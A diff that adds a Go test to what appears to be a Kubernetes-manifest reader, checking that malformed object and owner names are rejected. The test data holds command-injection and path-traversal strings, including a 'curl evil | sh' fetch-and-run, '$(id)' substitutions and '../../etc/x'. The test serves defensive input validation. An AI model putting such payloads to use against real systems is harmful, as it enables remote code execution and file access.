@@ -57,6 +57,31 @@ func TestOwners(t *testing.T) {
 	}
 }
 
+// What is no name, in a file or of an owner, of which an API server takes anything, becomes no word of a command and no file's name: it is a problem, by name.
+func TestNames(t *testing.T) {
+	t.Parallel()
+	for _, object := range []string{
+		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a","ownerReferences":[{"apiVersion":"v1","kind":"X; curl evil | sh\n","name":"b","uid":"1","controller":true}]}}`,
+		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a","ownerReferences":[{"apiVersion":"v1","kind":"X","name":"$(id)","uid":"1","controller":true}]}}`,
+		`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"a"},"spec":{"serviceAccountName":"a$(id)"}}`,
+		`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"../../etc/x"}}`,
+		`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"x","namespace":"a b"}}`,
+		`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"a\nb"}}`,
+		`{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"a;b"}}`,
+		`{"apiVersion":"v1","kind":"Secret","metadata":{"name":"a;b","labels":{"heritage":"kube-aws-iam-controller"}}}`,
+		`{"apiVersion":"zalando.org/v1","kind":"AWSIAMRole","metadata":{"name":"a;b"}}`,
+	} {
+		c := New()
+		if err := c.AddFile("f", []byte(object)); err != nil {
+			t.Fatal(err)
+		}
+		c.Finish()
+		if len(c.Problems) != 1 || len(c.Workloads)+len(c.Namespaces)+len(c.Accounts)+len(c.Secrets)+len(c.Roles) != 0 {
+			t.Errorf("%s: %+v", object, c)
+		}
+	}
+}
+
 // One object that can't be read is named, and nothing else is lost.
 func TestNothingElseIsLost(t *testing.T) {
 	t.Parallel()
